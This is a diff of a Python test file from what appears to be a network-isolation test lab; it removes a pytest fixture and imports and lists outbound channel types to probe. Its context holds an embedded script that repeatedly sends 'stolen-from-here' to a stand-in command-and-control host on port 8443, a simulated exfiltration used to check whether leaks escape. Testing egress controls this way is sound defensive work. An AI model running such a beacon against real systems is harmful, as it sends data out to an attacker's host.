@@ -10,15 +10,11 @@ import contextlib
 import subprocess
 import time
 
-import pytest
-
 from tests.lab import hosts, intruders, network
 from tests.lab.controller import adhoc, seen
 from tests.lab.machine import inside
 
-from . import matrix
 from .channels import heard, listening
-from .conftest import clean
 
 OUT = ("tcp-ipv4", "udp-ipv6", "icmp-with-payload-ipv4", "neighbour-tcp")
 FRAMES = ("packet-socket-ipv4", "odd-ethertype")
@@ -43,14 +39,6 @@ while not select.select([sys.stdin], [], [], 0.005)[0]:
         try: s.sendto(b'stolen-from-here', ('{network.C2}', 8443))
         except OSError: pass
 """
-
-
-@pytest.fixture(params=matrix.cells(), ids="-".join)
-def cell(request, lab):
-    """(release, backend)."""
-    clean(request.param[0])
-    yield request.param
-    clean(request.param[0])
 
 
 def comes_in(host: str) -> int:
